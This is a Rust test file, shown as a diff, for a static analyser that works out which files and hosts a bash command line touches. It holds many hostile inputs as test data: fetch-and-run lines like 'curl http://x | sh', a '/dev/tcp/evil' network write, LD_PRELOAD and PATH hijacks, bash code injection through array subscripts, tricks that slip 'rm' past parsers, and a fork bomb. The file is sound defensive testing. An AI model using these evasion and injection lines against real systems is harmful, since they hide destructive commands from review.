@@ -1,0 +1,510 @@
+use super::*;
+use crate::effect::{Certainty, Kind, Object};
+use crate::word::Word;
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// Scripts by their paths.
+struct Scripts(BTreeMap<PathBuf, String>);
+
+impl Files for Scripts {
+    fn script(&self, path: &Path) -> Option<String> {
+        self.0.get(path).cloned()
+    }
+}
+
+fn places() -> Places {
+    Places {
+        folder: "/p".into(),
+        project: "/p".into(),
+        home: Some("/h".into()),
+        variables: BTreeMap::new(),
+    }
+}
+
+fn done(line: &str) -> Done {
+    let script = ("/p/s.sh".into(), "#!/bin/sh\ncd sub\nrm $1\n".to_owned());
+    let python = ("/p/s.py".into(), "#!/usr/bin/python3\n".to_owned());
+    let scripts = Scripts(BTreeMap::from([script, python]));
+    read(line, &places(), &scripts)
+}
+
+/// Whether anything may happen.
+fn anything(done: &Done) -> bool {
+    Kind::ALL.iter().all(|kind| {
+        let unknown = |effect: &&Effect| effect.object == Object::Unknown && effect.kind == *kind;
+        done.effects.iter().find(unknown).is_some()
+    })
+}
+
+/// The names of the programs of a line, `?` where one cannot be read.
+fn programs(done: &Done) -> Vec<String> {
+    let names = done.commands.iter().map(|command| {
+        let name = command.words.first().and_then(Word::known);
+        name.map_or("?".to_owned(), std::borrow::Cow::into_owned)
+    });
+    names.collect()
+}
+
+/// What files a line writes, reads, or deletes, shortly: `w/p/x`, `?` before what only may be.
+fn files(line: &str) -> Vec<String> {
+    let done = done(line);
+    let mut all = Vec::new();
+    for effect in &done.effects {
+        let kind = match effect.kind {
+            Kind::Read => "r",
+            Kind::Write => "w",
+            Kind::Delete => "d",
+            Kind::Net => "n",
+            _ => continue,
+        };
+        // What stands below a folder that a pattern may match.
+        if matches!(&effect.object, Object::Pattern(pattern) if pattern.ends_with("/**")) {
+            continue;
+        }
+        let object = match &effect.object {
+            Object::Path(path) | Object::Tree(path) => path.display().to_string(),
+            Object::Pattern(pattern) => format!("~{pattern}"),
+            Object::Host(host) => host.clone(),
+            _ => "?".to_owned(),
+        };
+        let sure = match effect.certainty {
+            Certainty::Exact => "",
+            Certainty::Likely => "~",
+            Certainty::Unknown => "?",
+        };
+        all.push(format!("{sure}{kind}{object}"));
+    }
+    all
+}
+
+#[track_caller]
+fn does(line: &str, expected: &[&str]) {
+    assert_eq!(files(line), expected, "{line}");
+}
+
+#[test]
+fn words_are_what_the_shell_makes_of_them() {
+    for (line, expected) in [
+        ("rm a", "d/p/a"),
+        ("rm -rf 'a b'", "d/p/a b"),
+        (r"rm a\ b", "d/p/a b"),
+        ("rm $'a\\x62'", "d/p/ab"),
+        ("rm \"a\"'b'c", "d/p/abc"),
+        ("rm ~/x", "d/h/x"),
+        ("rm \"$HOME\"/x", "d/h/x"),
+        ("rm ${HOME}/x", "d/h/x"),
+        ("rm ~+/x", "d/p/x"),
+        ("rm $PWD/x", "d/p/x"),
+        ("rm of=~/x", "d/p/of=/h/x"),
+        ("x=~/a; rm $x", "d/h/a"),
+        ("rm *", "~d~/p/*"),
+        ("rm '*'", "d/p/*"),
+        ("rm [a]b", "~d~/p/[a]b"),
+        ("rm a]", "d/p/a]"),
+        ("set -f; rm *", "d/p/*"),
+        ("x=a; rm $x", "d/p/a"),
+        ("x=a.txt; rm ${x%.txt}.c", "d/p/a.c"),
+        ("x='a*'; rm $x", "~d~/p/a*"),
+        ("unset x; rm ${x:-b}", "d/p/b"),
+        ("rm $(echo a)", "d/p/a"),
+        ("rm `echo a`", "d/p/a"),
+        ("rm \"$(echo 'a b')\"", "d/p/a b"),
+        ("r\\m a", "d/p/a"),
+        ("'rm' a", "d/p/a"),
+        ("x=rm; $x a", "d/p/a"),
+        ("rm$IFS-rf${IFS}a", "d/p/a"),
+        ("rm \"a$UNKNOWN\"", "?d~/p/a**"),
+        ("rm $UNKNOWN/hooks", "?d~**/hooks"),
+        ("rm \"$UNKNOWN\"", "?d?"),
+        ("a=(x y); rm ${a[1]}", "d/p/y"),
+    ] {
+        does(line, &[expected]);
+    }
+    does("unset x; rm ${x:-\"a b\"}", &["d/p/a b"]);
+    does("unset x; rm ${x:-a 'b c'}", &["d/p/a", "d/p/b c"]);
+    does("unset x; rm \"${x:-a b}\"", &["d/p/a b"]);
+    does("x=1; rm ${x:+a} ${x:+}", &["d/p/a"]);
+    does("rm {a,b}c", &["d/p/ac", "d/p/bc"]);
+    does("rm x{1..3}", &["d/p/x1", "d/p/x2", "d/p/x3"]);
+    does("rm {a,b{c,d}}", &["d/p/a", "d/p/bc", "d/p/bd"]);
+    does("x='a b'; rm $x", &["d/p/a", "d/p/b"]);
+    does("IFS=:; x=a:b; rm $x", &["d/p/a", "d/p/b"]);
+    does("a=(x 'y z'); rm \"${a[@]}\"", &["d/p/x", "d/p/y z"]);
+    does("set -- x y; rm \"$@\"", &["d/p/x", "d/p/y"]);
+    does("for f in a b; do rm $f.c; done", &["d/p/a.c", "d/p/b.c"]);
+    for line in ["r${Z}m x", "$UNKNOWN x", "`cat f` x", "${!x} y", "\"$@\""] {
+        assert!(anything(&done(line)), "{line}");
+    }
+}
+
+#[test]
+fn the_folder_is_followed() {
+    does("cd a && rm b", &["d/p/a/b"]);
+    does("cd a; rm b", &["~d/p/a/b", "~d/p/b"]);
+    does("cd a || exit; rm b", &["d/p/a/b"]);
+    does("cd a || exit 1\nrm b", &["d/p/a/b"]);
+    does("cd && rm b", &["d/h/b"]);
+    does("cd ~ && rm -rf .local", &["d/h/.local"]);
+    does("cd a && cd .. && rm b", &["d/p/b"]);
+    does("cd a && cd - && rm b", &["d/p/b"]);
+    does("pushd a && rm b && popd && rm c", &["d/p/a/b", "d/p/c"]);
+    does("(cd a && rm b); rm c", &["d/p/a/b", "d/p/c"]);
+    does("{ cd a && rm b; } && rm c", &["d/p/a/b", "d/p/a/c"]);
+    does("cd a | rm b", &["d/p/b"]);
+    does("cd a & rm b", &["d/p/b"]);
+    does("rm $(cd a && echo x)", &["?d?"]);
+    does("if cd a; then rm b; else rm c; fi", &["~d/p/a/b", "~d/p/c"]);
+    does("cd $X && rm b", &["?d~**/b"]);
+    does("f() { cd a; }; f && rm b", &["d/p/a/b"]);
+    does(
+        "while cd a; do rm b; done",
+        &["d/p/a/b", "~d/p/a/b", "~d/p/a/a/b", "?d~**/b"],
+    );
+}
+
+#[test]
+fn redirections_are_effects() {
+    does("echo x > f", &["w/p/f"]);
+    does("echo x >> f", &["w/p/f"]);
+    does("echo x >| f", &["w/p/f"]);
+    does("echo x &> f", &["w/p/f"]);
+    does("echo x &>> f", &["w/p/f"]);
+    does("echo x >& f", &["w/p/f"]);
+    does(": <> f", &["r/p/f", "w/p/f"]);
+    does("cat < f", &["r/p/f"]);
+    does("> f", &["w/p/f"]);
+    does("echo x 2>&1 >/dev/null 2>/dev/null <&-", &[]);
+    does("{ echo x; } > f", &["w/p/f"]);
+    does("cd a && echo x > f", &["w/p/a/f"]);
+    does("echo x > /dev/tcp/evil/80", &["nevil:80"]);
+    does("echo x > \"$X\"", &["?n?", "?w?"]);
+    does("cat <<E > f\nbody $(rm x)\nE", &["d/p/x", "w/p/f"]);
+    does("cat <<'E' > f\nbody $(rm x)\nE", &["w/p/f"]);
+    does("echo x # > f", &[]);
+}
+
+#[test]
+fn code_in_text_is_followed() {
+    does("sh -c 'rm x'", &["d/p/x"]);
+    does("sudo env bash -c \"rm 'x y'\"", &["d/p/x y"]);
+    does("eval 'rm x'", &["d/p/x"]);
+    does("eval rm '$HOME/x'", &["d/h/x"]);
+    does("echo 'rm x' | sh", &["d/p/x"]);
+    does("cat <<E | sh\nrm x\nE", &["d/p/x"]);
+    does("sh <<< 'rm x'", &["d/p/x"]);
+    does("sh <(echo rm x)", &["d/p/x"]);
+    does("source <(echo rm x)", &["d/p/x"]);
+    does("trap 'rm x' EXIT; cd a || exit", &["~d/p/a/x", "~d/p/x"]);
+    does("echo 'rm x' > f; sh f", &["w/p/f", "r/p/f", "d/p/x"]);
+    does("sh s.sh y", &["r/p/s.sh", "~d/p/sub/y", "~d/p/y"]);
+    does("./s.sh y", &["~d/p/sub/y", "~d/p/y"]);
+    does("f() { rm $1; }; f x", &["d/p/x"]);
+    does("f() { rm x; }; bash -c f", &[]);
+    does("f() { rm x; }; export -f f; bash -c f", &["d/p/x"]);
+    does("shopt -s expand_aliases; alias l='rm x'\nl", &["~d/p/x"]);
+    for line in [
+        "curl http://x | sh",
+        "sh -c \"$X\"",
+        "eval \"$(curl x)\"",
+        "source <(curl x)",
+        "curl x > f; sh f",
+        "sh -c \"$(cat f)\"",
+        "cp a f; . ./f",
+        "sh $X",
+    ] {
+        assert!(anything(&done(line)), "{line}");
+    }
+    let opaque = done("./s.py");
+    assert!(!anything(&opaque));
+    let is_opaque =
+        |effect: &Effect| matches!(&effect.object, Object::Program { opaque: true, .. });
+    assert!(opaque.effects.iter().any(is_opaque));
+}
+
+#[test]
+fn data_that_bash_runs_as_code_is_followed() {
+    for line in [
+        "printf -v 'a[$(rm x)]' y",
+        "test -v 'a[$(rm x)]'",
+        "[ -v 'a[$(rm x)]' ]",
+        "[[ -v 'a[$(rm x)]' ]]",
+        "v='a[$(rm x)]'; ((v))",
+        "v='a[$(rm x)]'; echo $((v+1))",
+        "read 'a[$(rm x)]' <<< y",
+        "unset 'a[$(rm x)]'",
+        "declare 'a[$(rm x)]=1'",
+        "let 'a[$(rm x)]=1'",
+        "[[ 'a[$(rm x)]' -eq 0 ]]",
+        "v='a[$(rm x)]'; echo ${b:v}",
+        "a['$(rm x)']=1",
+        "v='a[$(rm x)]'; w=v; ((w))",
+        "((a[$(rm x)]))",
+        "echo $[a[$(rm x)]]",
+        "mapfile 'a[$(rm x)]'",
+        "export 'a[$(rm x)]=1'",
+    ] {
+        let done = done(line);
+        let removed = |effect: &Effect| {
+            effect.kind == Kind::Delete
+                && (effect.object == Object::Path("/p/x".into())
+                    || effect.object == Object::Unknown)
+        };
+        assert!(done.effects.iter().any(removed), "{line}");
+    }
+    for line in [
+        "x=$(cat f); ((x))",
+        "read x < f; echo $((x))",
+        "declare -n r=PATH",
+        "echo ${X@P}",
+    ] {
+        assert!(anything(&done(line)), "{line}");
+    }
+    for line in [
+        "i=0; ((i++)); echo $((i+1)) $((1<<2))",
+        "for ((i=0;i<3;i++)); do echo $i; done",
+        "((X))",
+        "[[ -v HOME ]]",
+        "test -v HOME",
+        "[[ $X == a* ]]",
+        "[ \"$X\" = y ]",
+        "x=${#HOME}; echo $((x))",
+        "IFS= read -r x",
+        "export FOO=bar",
+        "PATH=/usr/local/bin:$PATH ls",
+        "export PATH=\"$HOME/.cargo/bin:$PATH\"",
+        "declare -A m=([a]=b)",
+    ] {
+        assert!(!anything(&done(line)), "{line}");
+    }
+}
+
+#[test]
+fn variables_that_decide_what_runs_make_everything_unknown() {
+    for line in [
+        "PATH=.:$PATH ls",
+        "export PATH=$PWD/bin:$PATH",
+        "PATH=$X ls",
+        "read PATH < f",
+        "PATH=$(cat f):$PATH ls",
+        "LD_PRELOAD=./x.so ls",
+        "BASH_ENV=x bash -c :",
+        "GIT_SSH_COMMAND=x git fetch",
+        "EDITOR='sh -c x' git commit",
+        "PS4='$(rm x)'; set -x; :",
+        "hash -p ./x ls",
+        "enable -f x y",
+        "export $(cat f)",
+        "shopt -s autocd",
+    ] {
+        assert!(anything(&done(line)), "{line}");
+    }
+}
+
+/// The lines that every parser, or this one, reads wrongly. In each of them bash runs `rm H`.
+#[test]
+fn what_walks_around_parsers_is_seen_or_unknown() {
+    for line in [
+        "echo \"${v:-'$(rm H)'}\"",
+        "echo `echo \\`rm H\\``",
+        "echo `echo \\`echo \\\\\\`rm H\\\\\\`\\``",
+        "echo $((rm H); :)",
+        "cat <<E\nx \\\nE\n: <<'Z'\nE\nrm H\nZ",
+        "cat <<E\\\nF\nx\nEF\nrm H",
+        "echo ${v:-${v:-${v:-${v:-${v:-${v:-${v:-${v:-${v:-$(rm H)}}}}}}}}}",
+        "echo ${v#${v#${v#${v#${v#$(rm H)}}}}}",
+        "c1 {d1;rm H;}",
+        "c1 ${v/'/'/$(rm H)}",
+        "c1 $((1+$(rm H)))",
+        "c1 $[1+$(rm H)]",
+        "c1 $((v[$(rm H)]))",
+        "c1 $(c2 $(c3 $(rm H)))",
+        "c1 {a,$(rm H)}",
+        "c1 $\"d1 $(rm H)\"",
+        "c1 $(rm H <<'E'\nd1 ) d2\nE\n)",
+        "c1 \"$(case x in x) rm H;; esac)\"",
+        "c1 <<E $(rm H)\nd1\nE",
+        "! time rm H",
+        "coproc rm H",
+        "time rm H",
+        "! ! rm H",
+        "c1 ${v#$(rm H)}",
+        "c1 ${v:-`rm H`}",
+        "c1 ${v^^$(rm H)}",
+        "c1 <<E\n`rm H`\nE",
+        "v[d1 d2]=x; rm H",
+        "v=<(c1) rm H",
+        "diff x <(for i in a b; { rm H; })",
+        "echo $(for i in a b; { rm H; })",
+        "echo \"$(for i in a b; { rm H; })\"",
+        "echo `for i in a b; { rm H; }`",
+        "cat <<E\n$(for i in a b; { rm H; })\nE",
+        "c1 &\\\n& rm H",
+        "cat <<$v\nx\n$v\nrm H",
+        "c ${v}$(x)} ; rm H",
+        "for i\nin a; do rm H; done",
+        "coproc N while rm H; do :; done",
+        "cat <<-E\n\tx\n\tE\nrm H",
+        "if :; then rm H; fi",
+        "case x in (x|y) rm H;; esac",
+        "select i in a; do rm H; done",
+        "until rm H; do :; done",
+        "f() (rm H); f",
+        "function f { rm H; }; f",
+        "{ rm H; } 2>&1 | cat",
+        "exec rm H",
+        "command rm H",
+        "builtin command rm H",
+        "$'\\162m' H",
+        "a=(x $(rm H))",
+        "declare a=$(rm H)",
+        "local x=`rm H`",
+        "[[ -n $(rm H) ]]",
+        "case $(rm H) in x) ;; esac",
+        "for i in $(rm H); do :; done",
+        "echo x > $(rm H)",
+        "echo ${a[$(rm H)]}",
+        "echo ${a:$(rm H)}",
+        "echo ${a:?$(rm H)}",
+    ] {
+        let done = done(line);
+        let removed = |effect: &Effect| {
+            effect.kind == Kind::Delete
+                && (effect.object == Object::Path("/p/H".into())
+                    || effect.object == Object::Unknown)
+        };
+        assert!(
+            done.effects.iter().any(removed),
+            "{line}: {:?}",
+            programs(&done)
+        );
+    }
+}
+
+#[test]
+fn hostile_lines_get_an_answer_that_is_unknown() {
+    let many = |text: &str| text.repeat(10_000);
+    for line in [
+        many("$("),
+        many("("),
+        many("{ "),
+        many("if "),
+        many("case x in x) "),
+        many("[[ ("),
+        many("\"$("),
+        many("<("),
+        many("time "),
+        many("! "),
+        many("${a:-"),
+        many("${a#"),
+        many("$(("),
+        many("$["),
+        many("f() "),
+        format!("[[ a == {}", many("@(a|")),
+        many("coproc "),
+        many("a && "),
+        many("a | "),
+        many("until "),
+        "x".repeat(LONGEST + 1),
+        "rm a\0b".to_owned(),
+        ":(){ :|:& };:".to_owned(),
+        "f() { f; f; f; }; f".to_owned(),
+        "echo {1..99999999}".to_owned(),
+        format!(
+            "{}:{}",
+            "for i in 1 2 3 4 5 6 7 8 9; do ".repeat(9),
+            "; done".repeat(9)
+        ),
+        format!(
+            "x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; {} echo $x",
+            "x=$x$x$x$x;".repeat(30)
+        ),
+        format!("echo {}", "{a,b}".repeat(30)),
+        format!("{}echo{}", "$((a) ; ".repeat(14), ")".repeat(14)),
+        format!("rm {}", "a ".repeat(30_000)),
+        format!("rm {}", "{".repeat(60_000)),
+        format!("rm \"{}\"", "{".repeat(60_000)),
+        format!("rm {}", "{a,".repeat(20_000)),
+        format!("rm a{}", "\"\"{".repeat(20_000)),
+        format!("x={}; rm ${{x%*a*b*c*d}}", "abc".repeat(20_000)),
+        format!("for i in {{1..200}}; do rm {}; done", "a$i ".repeat(1_000)),
+        format!(
+            "f() {{ {}f{}; }}; f",
+            "if :; then ".repeat(20),
+            "; fi".repeat(20)
+        ),
+        format!(
+            "f() {{ {}f{}; }}; eval f",
+            "{ ".repeat(25),
+            "; }".repeat(25)
+        ),
+        "eval 'eval \"eval \\\"$0\\\"\"'".to_owned(),
+    ] {
+        let done = done(&line);
+        let unknown = |effect: &Effect| effect.certainty == Certainty::Unknown;
+        let short: String = line.chars().take(40).collect();
+        let splits = done.commands.iter().flat_map(|command| &command.words);
+        let splits = splits
+            .flat_map(|word| &word.parts)
+            .any(|part| *part == crate::word::Part::Split);
+        assert!(done.effects.iter().any(unknown) || splits, "{short}");
+    }
+}
+
+#[test]
+fn long_and_deep_lines_of_everyday_are_read() {
+    for line in [
+        format!("echo {}", "x ".repeat(3_000)),
+        "echo x; ".repeat(1_000),
+        format!(
+            "git commit -m \"$(cat <<'EOF'\n{}\nEOF\n)\"",
+            "it's (a \"body\" $( ${ ` \n".repeat(500)
+        ),
+        format!("{}:{}", "if :; then ".repeat(20), "; fi".repeat(20)),
+        format!("{}:{}", "echo $(".repeat(20), ")".repeat(20)),
+    ] {
+        let done = done(&line);
+        let short: String = line.chars().take(40).collect();
+        assert!(done.readable && !anything(&done), "{short}");
+    }
+}
+
+#[test]
+fn a_plain_command_is_told_from_everything_else() {
+    for line in ["ls -la", "git log --oneline 'a b'", "rm -rf x # gone"] {
+        assert!(done(line).plain, "{line}");
+    }
+    for line in [
+        "ls; ls",
+        "ls | cat",
+        "ls > f",
+        "ls $(x)",
+        "ls $X",
+        "ls *",
+        "X=1 ls",
+        "ls &",
+        "! ls",
+        "(ls)",
+        "ls ~",
+        "ls {a,b}",
+        "time ls",
+        "ls <(x)",
+        "ls `x`",
+        "f() { ls; }",
+        "export X=1",
+        "ls\nls",
+        "",
+    ] {
+        assert!(!done(line).plain, "{line}");
+    }
+}
+
+#[test]
+fn commands_are_told_in_order_with_what_surrounds_them() {
+    let done = done("A=1 c1 x | (cd d && c2) && sudo c3 $(c4)");
+    assert_eq!(programs(&done), ["c1", "cd", "c2", "c4", "sudo", "c3"]);
+    let first = done.commands.first().unwrap();
+    assert_eq!(first.assigned, [("A".to_owned(), Word::text("1"))]);
+    let second = done.commands.get(2).unwrap();
+    assert_eq!(second.folders, [PathBuf::from("/p/d")]);
+}
